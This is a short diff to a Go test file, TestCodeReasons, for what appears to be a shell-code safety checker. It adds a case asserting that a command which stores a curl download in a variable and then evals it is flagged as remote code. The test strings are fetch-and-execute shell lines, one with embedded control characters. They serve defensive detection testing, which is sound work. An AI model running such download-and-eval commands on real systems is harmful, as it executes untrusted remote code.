@@ -67,6 +67,8 @@ func TestCodeReasons(t *testing.T) {
 		// Control characters in the URL do not reach the reason.
 		{"x=$(curl https://x.io/\x1b[2Jz\u200b); eval \"$x\"", false, "remote-code",
 			"eval runs $x, which holds a download (curl https://x.io/z): "},
+		{"x=$(curl https://x.io/a); c && x=ls; eval \"$x\"", false, "remote-code",
+			"eval runs $x, which holds a download (curl https://x.io/a): "},
 		// Nothing known of the holder: the generic reason.
 		{"eval \"$1\"", false, "dynamic-code", "The shell code comes from"},
 	}
